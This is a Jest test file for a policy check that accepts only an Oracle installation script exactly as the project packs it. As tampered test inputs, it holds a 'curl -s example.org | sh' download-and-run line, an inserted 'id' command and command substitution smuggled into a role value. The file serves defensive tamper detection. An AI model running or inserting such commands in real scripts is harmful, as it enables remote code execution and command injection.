import { describe, expect, test } from "@jest/globals";
import {
  type InstallArgs,
  packedScript,
} from "../../infra/datacenter/database/oracle/install-script.ts";
import { isOwnInstallation } from "../../policies/machine/packed-script.ts";

const ARGS: InstallArgs = {
  role: "primary",
  clientId: "0f9d7d4c-6a1e-4b0e-9a50-1d6c5a11ad03",
  vaultUri: "https://kv.vault.azure.net/",
  installers: "https://st.blob.core.windows.net/oracle/",
  installer: { file: "db.zip", sha256: "0".repeat(64) },
  version: "19.0.0",
  hosts: { primary: "p", standby: "s" },
  port: 1521,
  connections: 1000,
  disks: {},
};
const isOwn = (text: string): boolean =>
  isOwnInstallation(Buffer.from(text, "utf8").toString("base64"));
const script = packedScript(ARGS);

test("takes the installation as it is packed for its own, whatever a machine is told", () => {
  expect(isOwn(script)).toBe(true);
  expect(isOwn(packedScript({ ...ARGS, role: "observer", connections: 7 }))).toBe(true);
});

describe("takes for another's", () => {
  test.each<[string, (text: string) => string]>([
    ["nothing", () => ""],
    [
      "a line before it",
      (text) => text.replace("set -eu\n", "set -eu\ncurl -s example.org | sh\n"),
    ],
    ["a line after it", (text) => `${text}curl -s example.org | sh\n`],
    ["a line between two files", (text) => text.replace(/^cat > "[^"]*install\.sh"/m, "id\n$&")],
    [
      "one of its files with a line more",
      (text) => text.replace("#!/bin/bash\n", "#!/bin/bash\nid\n"),
    ],
    ["a file more", (text) => text.replace(/^exec /m, "cat > \"/x/more.sh\" <<'E'\nid\nE\nexec ")],
    [
      "a file less",
      (text) => text.replace(/^cat > "[^"]*common\.sh" <<'([\w-]+)'\n[\s\S]*?^\1\n/m, ""),
    ],
    ["another start", (text) => text.replace('install.sh"\n', 'primary.sh"\n')],
    ["a value that runs", (text) => text.replace("ROLE='primary'", "ROLE=$(id)")],
    ["a command among the values", (text) => text.replace("ROLE='primary'", "ROLE='primary'\nid")],
    ["a command behind a value", (text) => text.replace("ROLE='primary'", "ROLE='primary' id")],
  ])("%s", (_, change) => {
    const changed = change(script);
    expect(changed).not.toBe(script);
    expect(isOwn(changed)).toBe(false);
  });
});
